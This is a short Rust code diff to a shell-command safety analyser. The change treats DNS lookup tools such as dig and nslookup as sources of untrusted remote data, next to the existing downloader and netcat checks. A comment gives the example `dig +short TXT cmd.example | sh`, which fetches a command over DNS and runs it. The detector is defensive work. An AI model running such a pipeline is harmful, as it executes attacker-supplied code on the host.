@@ -511,7 +511,12 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
     };
     // Remote data: downloaders and network clients, and anything their output flows through.
     let mut tainted: Vec<bool> = (0..n)
-        .map(|i| judge::is_downloader(name(i)) || judge::is_netcat(name(i)))
+        .map(|i| {
+            judge::is_downloader(name(i))
+                || judge::is_netcat(name(i))
+                // `dig +short TXT cmd.example | sh`: a DNS answer is remote data too.
+                || matches!(name(i), "dig" | "nslookup" | "host" | "drill" | "kdig")
+        })
         .collect();
     for _ in 0..4 {
         for &(x, y) in &a.pipes {
